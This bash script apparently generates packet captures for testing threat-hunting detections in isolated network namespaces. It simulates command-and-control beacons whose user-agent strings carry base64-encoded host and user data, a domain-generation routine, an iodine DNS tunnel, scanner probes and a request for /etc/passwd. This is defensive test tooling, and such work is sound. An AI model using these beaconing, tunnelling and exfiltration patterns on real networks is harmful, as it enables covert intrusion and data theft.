#!/bin/bash
# What hunts are to find and no other family has: nginx with curl as odd programs, BIND with dig as a program that looks
# for its server, and a DNS tunnel by iodine, in a pair of namespaces. What comes from outside has an address of 203.0.113.0/24.
#
# Needs: nginx curl bind9 bind9-dnsutils iodine, /dev/net/tun, and what lib.sh needs.
# Usage: hunts.sh [case ...]

. "$(dirname "$0")/lib.sh"
need nginx curl named dig iodine iodined gzip
OUT=$PCAPS/hunts
OUTSIDE=203.0.113.9
mkdir -p "$OUT" "$WORK/www"

servers() {
    cat >"$WORK/nginx.conf" <<CONF
daemon off; master_process off; pid $WORK/nginx.pid; error_log /dev/null; user root;
events { worker_connections 64; }
http { access_log off; default_type text/plain; keepalive_timeout 0;
    client_body_temp_path $WORK/b; proxy_temp_path $WORK/p; fastcgi_temp_path $WORK/f; uwsgi_temp_path $WORK/u; scgi_temp_path $WORK/s;
    server { listen 80; location / { return 200 "ok\n"; } location /CMSPages { return 404; } } }
CONF
    start "$SERVER" nginx -c "$WORK/nginx.conf"
    listening "$SERVER" 80
    cat >"$WORK/named.conf" <<CONF
options { directory "$WORK"; pid-file none; listen-on { 10.1.1.2; }; listen-on-v6 { none; }; recursion no; allow-query { any; }; };
zone "." { type primary; file "root.zone"; };
CONF
    # A root of its own: of all names one exists.
    cat >"$WORK/root.zone" <<'ZONE'
$TTL 60
. IN SOA ns.example.test. hostmaster.example.test. 1 7200 900 1209600 60
. IN NS ns.example.test.
ns.example.test. IN A 10.1.1.2
www.example.test. IN A 10.1.1.2
ZONE
    start "$SERVER" named -g -c "$WORK/named.conf" -n 1
    listening "$SERVER" 53 udp
}

record() {
    CAP=$1
    shift
    rm -f "$OUT/$CAP".pcap*
    capture "$CLIENT" "$OUT/$CAP.pcap" -i wire "$@"
}
recorded() {
    captured "${1:-0.4}"
    gzip -n9 "$OUT/$CAP.pcap"
}
# get HOST URI [CURL-ARGUMENT ...]: one request, for which the name is not looked up.
get() {
    local host=$1 uri=$2
    shift 2
    client curl -sS -o /dev/null --path-as-is --resolve "$host:80:10.1.1.2" "$@" "http://$host$uri"
}

# A browser, programs that say what they are, one that says nothing, and some that report in what they say.
agents() {
    record agents tcp port 80
    local browser='Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36'
    get www.example.test / -A "$browser"
    get www.example.test /news -A "$browser"
    get www.example.test /update -A 'Company Updater/2.1'
    get www.example.test /
    get www.example.test /feed -A 'python-requests/2.32.3'
    get www.example.test /none -A ''
    get www.example.test /empty -H 'User-Agent;'
    get c2.example.test /a -A "$(printf 'host=WS-17;user=alice' | base64 -w0)"
    get c2.example.test /b -A "Mozilla/4.0 (compatible) $(printf 'whoami: corp\\bob' | base64 -w0)"
    get c2.example.test /c -A "Agent/$(printf '{"id":"7f3a","os":"linux"}' | base64 -w0)"
    recorded
}

# Names of ad trackers as hosts, one of them only in the path, and one that only ends alike.
trackers() {
    record trackers tcp port 80
    local host
    for host in ad.doubleclick.net stats.g.doubleclick.net www.google-analytics.com; do
        get "$host" /pixel?id=1 -e http://news.example.test/
    done
    get ad.doubleclick.net /pixel?id=2 -e http://news.example.test/sport
    get www.example.test /doubleclick.net
    get notdoubleclick.net /
    recorded
}

# Who looks for a hole, from inside and from outside; and a page that is none of it.
paths() {
    record paths tcp port 80
    get www.example.test /CMSPages/CMSSiteManager/Login.aspx -A scanner/1.0
    get www.example.test /about
    get www.example.test '/CMSSiteManager/Administration/System.aspx?x=1' --interface "$OUTSIDE" -A scanner/2.0
    get www.example.test /index.html --interface "$OUTSIDE"
    recorded
}

passwords() {
    record passwords tcp port 80
    get intranet.example.test '/login?user=alice&password=Winter2026'
    get intranet.example.test '/login?User=bob&PassWord=Summer2026'
    get intranet.example.test '/api?pwd=hunter2'
    get intranet.example.test /etc/passwd
    get intranet.example.test /pass
    recorded
}

top_level_domains() {
    record top_level_domains tcp port 80
    local host
    for host in login.bank-secure.tk free-gift.xyz invoice.zip cdn.example.test www.top.test 10.1.1.2; do get "$host" /; done
    get free-gift.xyz /gift
    recorded
}

# A connection from outside that is set up, used, and open when the capture ends; one that is closed; one from inside.
from_outside() {
    record from_outside tcp port 80
    client "$PYTHON" - "$OUTSIDE" <<'PY' &
import socket, sys, time
held = []
for source in (sys.argv[1], "10.1.1.1"):
    connection = socket.create_connection(("10.1.1.2", 80), source_address=(source, 0))
    connection.sendall(b"GET / HTTP/1.1\r\nHost: www.exam")
    held.append(connection)
time.sleep(3)
PY
    sleep 1
    get www.example.test / --interface "$OUTSIDE"
    captured
    gzip -n9 "$OUT/$CAP.pcap"
    wait $!
}

# Every two seconds a call, of one size; and a person who reads at odd times.
beacon() {
    record beacon tcp port 80
    (for second in 0.3 1.9 0.2 4.6 0.1 2.8 0.4 6.3 0.7 1.2 3.1; do get www.example.test "/$second" --local-port 41000-41999; sleep "$second"; done) &
    local reader=$! next call
    next=$(date +%s%N)
    for call in $(seq 12); do
        client curl -sS -o /dev/null --interface 10.1.1.7 -A updater/1.0 http://10.1.1.2/status
        next=$((next + 2000000000))
        sleep "$(awk -v left=$((next - $(date +%s%N))) 'BEGIN { print (left > 0 ? left / 1e9 : 0) }')"
    done
    wait "$reader"
    recorded
}

# A program that computes names until one exists; and a person who mistypes.
generated() {
    record generated udp port 53
    "$PYTHON" - >"$WORK/names" <<'PY'
import hashlib
for number in range(40):
    digest = hashlib.sha256(b"2026-11-28 %d" % number).hexdigest()
    name = "".join(chr(97 + int(digest[at:at + 2], 16) % 26) for at in range(0, 28, 2))
    print(f"{name}.{('com', 'net', 'info', 'org')[number % 4]}")
print("www.example.test")
PY
    client dig +tries=1 +noedns @10.1.1.2 -f "$WORK/names" >"$WORK/answers"
    client dig +tries=1 +noedns -b 10.1.1.7 @10.1.1.2 wwww.example.test www.exmaple.test >>"$WORK/answers"
    recorded
}

# A login shell's worth of traffic through names below t.cover.test.
tunnel() {
    record tunnel udp port 5353 or udp port 53
    stop "$NAMED"
    start "$SERVER" iodined -f -c -P secret 10.99.0.1/24 t.cover.test
    listening "$SERVER" 53 udp
    start "$CLIENT" iodine -f -r -P secret -T TXT -m 200 10.1.1.2 t.cover.test
    local try
    for try in $(seq 100); do
        client ping -c1 -W1 10.99.0.1 >/dev/null 2>&1 && break
        sleep 0.2
    done
    client curl -sS -o /dev/null -m 20 http://10.99.0.1/
    recorded
}

cases=("$@")
[ ${#cases[@]} -gt 0 ] || cases=(agents trackers paths passwords top_level_domains from_outside beacon generated tunnel)
pair
ip -n "$CLIENT" addr add 10.1.1.7/24 dev wire
ip -n "$CLIENT" addr add "$OUTSIDE/24" dev wire
ip -n "$SERVER" route add 203.0.113.0/24 dev wire
servers
NAMED=$!
for case in "${cases[@]}"; do "$case"; done
show "$OUT"/*.pcap.gz
